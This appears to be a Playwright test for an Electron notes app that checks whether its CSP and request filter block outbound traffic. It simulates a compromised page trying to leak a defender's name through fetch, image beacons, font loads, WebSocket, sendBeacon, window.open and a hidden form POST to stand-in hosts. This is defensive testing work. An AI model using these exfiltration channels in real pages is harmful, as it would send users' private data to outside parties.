import type { Page } from '@playwright/test';
import { buildCsp } from '../../electron/main/security/csp';
import { FAKE_ORIGIN, type RequestRecord } from './support/app-server';
import { messages, PASSPHRASE, unlock } from './support/flows';
import { expect, test } from './support/fixtures';
import { core, meetingInput } from './support/seed';

interface Violation {
  directive: string;
  blocked: string;
}

/** Installed by the test, not the app: collects this page's CSP violations for the assertions. */
async function watchViolations(page: Page): Promise<void> {
  await page.evaluate(() => {
    const scope = window as unknown as { __zeroNetViolations: { directive: string; blocked: string }[] };
    scope.__zeroNetViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => scope.__zeroNetViolations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  });
}

async function takeViolations(page: Page): Promise<Violation[]> {
  return page.evaluate(() => {
    const scope = window as unknown as { __zeroNetViolations: Violation[] };
    return scope.__zeroNetViolations.splice(0);
  });
}

/**
 * Each attempt simulates a compromised page (or a pasted note that somehow ran) trying to reach
 * out with a defender's name. It returns what the page itself observed.
 */
const ATTEMPTS: { name: string; host: string; run: (page: Page) => Promise<string> }[] = [
  {
    name: 'fetch',
    host: 'example.org',
    run: (page) => page.evaluate(() => fetch('https://example.org/x?who=Cedar').then(() => 'resolved', (e: unknown) => `rejected: ${String(e)}`)),
  },
  {
    name: 'image',
    host: '198.51.100.7',
    run: (page) =>
      page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            const img = document.createElement('img');
            img.onload = () => resolve('loaded');
            img.onerror = () => resolve('error');
            img.src = 'http://198.51.100.7/p.png';
            document.body.append(img);
            setTimeout(() => resolve('no answer'), 2000);
          }).finally(() => document.querySelectorAll('img').forEach((el) => el.remove())),
      ),
  },
  {
    name: 'font (inline <style>, then CSSOM and FontFace)',
    host: 'fonts.example',
    run: (page) =>
      page.evaluate(async () => {
        const rule = "@font-face { font-family: Leak; src: url('https://fonts.example/f.woff2') format('woff2'); }";
        const style = document.createElement('style');
        style.textContent = rule;
        document.head.append(style);
        // Constructed sheets are not governed by style-src, so the font load itself must be stopped.
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(rule);
        document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
        const viaRule = await document.fonts.load("16px Leak", 'Cedar').then((faces) => `faces:${faces.length}`, (e: unknown) => `rejected: ${String(e)}`);
        const face = new FontFace('Leak2', "url('https://fonts.example/f2.woff2')");
        const viaApi = await face.load().then(() => 'loaded', (e: unknown) => `rejected: ${String(e)}`);
        style.remove();
        document.adoptedStyleSheets = document.adoptedStyleSheets.filter((s) => s !== sheet);
        return `rule ${viaRule}; FontFace ${viaApi}`;
      }),
  },
  {
    // Playwright's routeWebSocket (the harness's second wall) replaces the page's WebSocket with
    // its own, so here the request filter answers before Chromium's CSP check can run. In
    // Electron both stand: connect-src 'self' first, then the session's onBeforeRequest.
    name: 'WebSocket',
    host: 'example.org',
    run: (page) =>
      page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            try {
              const ws = new WebSocket('wss://example.org/s');
              ws.onopen = () => resolve('open');
              ws.onerror = () => resolve('error');
              ws.onclose = () => resolve('closed');
            } catch (e) {
              resolve(`threw: ${String(e)}`);
            }
            setTimeout(() => resolve('no answer'), 2000);
          }),
      ),
  },
  {
    name: 'sendBeacon',
    host: 'example.org',
    run: (page) => page.evaluate(() => `returned ${String(navigator.sendBeacon('https://example.org/beacon', 'Cedar'))}`),
  },
  {
    name: 'window.open',
    host: 'example.org',
    run: async (page) => {
      const popup = page.context().waitForEvent('page', { timeout: 2000 }).catch(() => null);
      const opened = await page.evaluate(() => (window.open('https://example.org/') === null ? 'null' : 'window'));
      const other = await popup;
      // Electron denies window.open outright (setWindowOpenHandler); Chromium here opens a tab
      // whose navigation the request filter then refuses.
      if (other) {
        await other.waitForLoadState('domcontentloaded').catch(() => undefined);
        await other.close();
      }
      return `window.open → ${opened}${other ? ' (popup closed by the test)' : ''}`;
    },
  },
  // Last: Playwright then keeps waiting for the navigation the CSP refused, so later checks use evaluate().
  {
    name: 'form POST',
    host: 'example.org',
    run: (page) =>
      page.evaluate(() => {
        const form = document.createElement('form');
        form.method = 'post';
        form.action = 'https://example.org/collect';
        const field = document.createElement('input');
        field.type = 'hidden';
        field.name = 'name';
        field.value = 'Cedar';
        form.append(field);
        document.body.append(form);
        form.submit();
        form.remove();
        return 'submitted';
      }),
  },
];

test('zero network: every way out is blocked by the CSP or the shell’s request filter, and nothing leaves', async ({ app }) => {
  const { page, ctx } = app;
  const documents: { url: string; csp: string | undefined }[] = [];
  page.on('response', (response) => {
    if (response.request().resourceType() === 'document') documents.push({ url: response.url(), csp: response.headers()['content-security-policy'] });
  });
  await ctx.vault.create(PASSPHRASE);
  await core(ctx, 'entry:create', { entry: meetingInput('Cedar — surveillance of the office', 'Names stay on this laptop.') });
  ctx.vault.lock();
  await app.open();
  await unlock(page, 'en');
  await expect(page.getByRole('heading', { name: messages.en['list.heading'] })).toBeVisible();
  // The document came with the shell's own CSP header (csp.ts), as app:// serves it in Electron.
  expect(documents[0]?.csp).toBe(buildCsp());

  // From here on the violations are expected, and only for these hosts.
  // The inline <style> of the font attempt names no host; only its style-src refusal is let through.
  app.expectBlockedAttemptsTo(['example.org', '198.51.100.7', 'fonts.example', /Applying inline style violates .*'style-src 'self''|\[csp-violation\] style-src-elem blocked inline/]);
  await watchViolations(page);

  const report: { attempt: string; observed: string; blockedBy: string[] }[] = [];
  for (const attempt of ATTEMPTS) {
    const before = app.requests.length;
    const observed = await attempt.run(page);
    const blockedBy = async () => {
      const byCsp = (await takeViolations(page).catch(() => [] as Violation[])).filter((v) => v.blocked === 'inline' || v.blocked.includes(attempt.host)).map((v) => `csp:${v.directive}`);
      const byFilter = app.requests.slice(before).filter((r: RequestRecord) => r.url.includes(attempt.host) && r.decision === 'block').map((r) => `request-filter:${r.kind}`);
      return [...byCsp, ...byFilter];
    };
    let found: string[] = [];
    await expect
      .poll(async () => {
        found = [...found, ...(await blockedBy())];
        return found.length;
      }, { message: `${attempt.name} was blocked by something` })
      .toBeGreaterThan(0);
    report.push({ attempt: attempt.name, observed, blockedBy: [...new Set(found)] });
  }
  await test.info().attach('zero-network-report.json', { body: JSON.stringify(report, null, 2), contentType: 'application/json' });
  console.log(report.map((r) => `${r.attempt}: ${r.blockedBy.join(', ')} (page saw: ${r.observed})`).join('\n'));

  // What the page saw agrees: nothing loaded, opened or resolved.
  const observed = Object.fromEntries(report.map((r) => [r.attempt, r.observed]));
  expect(observed.fetch).toMatch(/^rejected/);
  expect(observed.image).toBe('error');
  expect(observed['font (inline <style>, then CSSOM and FontFace)']).not.toMatch(/FontFace loaded/);
  expect(observed.WebSocket).not.toBe('open');

  // No request outside the app origin was allowed; every outside request seen was blocked.
  const outside = app.requests.filter((r) => !r.decidedOn.startsWith('app://fieldnotes/'));
  expect(outside.filter((r) => r.decision === 'allow')).toEqual([]);
  // The page never left the app, and is still working.
  expect(page.url().startsWith(`${FAKE_ORIGIN}/`)).toBe(true);
  expect(page.frames().every((frame) => frame.url() === '' || frame.url() === 'about:blank' || frame.url().startsWith(`${FAKE_ORIGIN}/`))).toBe(true);
  expect(await page.evaluate(() => document.body.innerText)).toContain('Cedar — surveillance of the office');
  expect(ctx.vault.status().state).toBe('unlocked');
});
